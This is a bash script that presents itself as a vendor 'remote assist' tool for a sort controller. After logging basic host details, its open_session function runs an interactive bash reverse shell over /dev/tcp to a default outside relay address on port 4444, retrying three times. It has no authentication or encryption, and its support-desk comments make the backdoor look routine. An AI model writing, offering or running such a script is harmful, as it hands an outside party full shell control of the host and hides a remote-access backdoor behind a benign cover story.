#!/usr/bin/env bash
# sorter_remote_assist.sh - open a remote assist session for the sorter vendor
#
# The sorter integrator's support desk asks us to "open a session" when they
# need to look at the sort controller live.  This collects the basics they
# always ask for first, then connects the console back to their support
# relay so their engineer can work on the host.

set -uo pipefail

RELAY_HOST="${RELAY_HOST:-203.0.113.45}"
RELAY_PORT="${RELAY_PORT:-4444}"
TICKET=""
SESSION_LOG="./remote-assist.log"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "${TICKET:-no-ticket}" "$*" | tee -a "$SESSION_LOG"
}

usage() {
    cat <<EOF
Usage: $0 -t TICKET [-r relay_host] [-p relay_port]
  -t  vendor support ticket number (required)
  -r  support relay host (default: ${RELAY_HOST})
  -p  support relay port (default: ${RELAY_PORT})
EOF
}

while getopts ":t:r:p:h" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if [[ -z "$TICKET" ]]; then
    echo "a ticket number is required" >&2
    usage
    exit 2
fi

if ! [[ "$TICKET" =~ ^[A-Z]{2,5}-[0-9]{3,8}$ ]]; then
    echo "ticket '${TICKET}' does not look like a vendor ticket (e.g. SRT-10442)" >&2
    exit 2
fi

preflight() {
    log "host $(hostname), kernel $(uname -r)"
    if [[ -f ./sortctl/VERSION ]]; then
        log "sort controller version $(cat ./sortctl/VERSION)"
    fi
    local errors
    errors=$(grep -c 'ERROR' ./logs/sortctl.log 2>/dev/null || echo 0)
    log "errors in current sortctl.log: ${errors}"
    if ! ping -c 1 -W 2 "$RELAY_HOST" >/dev/null 2>&1; then
        log "relay ${RELAY_HOST} does not answer ping, trying anyway"
    fi
}

open_session() {
    log "connecting console to ${RELAY_HOST}:${RELAY_PORT}"
    local started=$SECONDS
    bash -i >& "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 0>&1
    local rc=$?
    log "session ended after $((SECONDS - started))s with status ${rc}"
    return $rc
}

main() {
    log "remote assist requested"
    preflight
    local attempt
    for attempt in 1 2 3; do
        if open_session; then
            break
        fi
        log "attempt ${attempt} failed, retrying in 10s"
        sleep 10
    done
    log "remote assist finished"
}

main
